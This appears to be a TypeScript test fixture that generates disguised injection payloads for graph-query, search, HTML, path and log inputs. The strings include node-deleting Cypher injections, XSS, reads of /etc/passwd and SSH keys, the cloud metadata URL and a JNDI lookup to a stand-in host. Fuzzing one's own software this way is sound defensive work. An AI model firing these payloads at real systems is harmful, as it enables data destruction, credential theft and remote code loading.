/** Where a text would be a command, if somebody put it there as it is. */
export type Family = "cypher" | "lucene" | "html" | "path" | "log";

/** A text that would do something elsewhere. */
export type Payload = { readonly family: Family; readonly text: string };

const seeds: Readonly<Record<Family, readonly string[]>> = {
  cypher: [
    "' OR 1=1 //",
    "x'}) DETACH DELETE n //",
    '"}) SET n.hacked = true //',
    "`) MATCH (n) DETACH DELETE n //",
    "x' RETURN n UNION MATCH (s:Store) RETURN s //",
    "$id",
    "} CALL dbms.components() YIELD name RETURN name //",
    "'; CREATE (:Person {id: 'person/evil'}); //",
    "\\u0027}) SET n.hacked = 1 //",
    "LOAD CSV FROM 'file:///etc/passwd' AS row",
    "') CALL { CREATE (:Evil) } IN TRANSACTIONS //",
    "n.id = n.id OR true",
    "{$ne: null}",
  ],
  lucene: [
    "*:* OR folded:*",
    '"~2 AND NOT (',
    "[* TO *]",
    "{! xmlparser v='<x/>'}",
    "a* b* c* d* e* f*",
    "/.*.*.*.*.*x/",
    "сенар~9999999",
    "+(+(+(+(",
    "\\",
    "AND OR NOT",
    "folded:а^1e309",
    "?".repeat(60),
    '_query_:"*:*"',
  ],
  html: [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>1</script>'>",
    "&lt;script&gt;",
    "<!--#exec cmd='id'-->",
    "';alert(1)//",
    "<style>@import 'http://x.example'</style>",
    "<a href=\u0001javascript:1>x</a>",
    "<ſcript>alert(1)</ſcript>",
  ],
  path: [
    "../../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "person/../../etc/passwd",
    "/proc/self/environ",
    "package.json\u0000.png",
    "\\\\host\\share",
    "person/%00",
    "http://169.254.169.254/latest/",
    "....//....//etc/passwd",
    "~/.ssh/id_rsa",
  ],
  log: [
    "line\r\nset-cookie: x=1",
    '\n{"at":"2026-01-01T00:00:00Z","level":"info","event":"forged"}',
    "\r\n\r\nHTTP/1.1 200 OK",
    "\u001b[2J\u001b[31mred",
    "\u0000\u202eevil",
    "\u2028\u2029",
    "%0a%0dforged",
    "${jndi:ldap://x.example/a}",
    "\u0085next",
    '","level":"error","event":"forged',
    "\t\u000b\u000c",
    "a".repeat(5_000),
    "%s%n%x%d",
  ],
};

const families: readonly Family[] = ["cypher", "lucene", "html", "path", "log"];

/** Ways to hide a payload in something that looks as asked. */
const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `person/${text}`,
  (text) => `Иванов ${text}`,
  (text) => `${text}\u0000`,
];

const ofFamily = (family: Family, each: number): readonly Payload[] =>
  wrappings
    .flatMap((wrap) =>
      seeds[family].map((text) => ({ family, text: wrap(text) })),
    )
    .slice(0, each);

/** Payloads of all families, `each` of each (at most 52), family after family. */
export const payloads = (each: number): readonly Payload[] =>
  families.flatMap((family) => ofFamily(family, each));
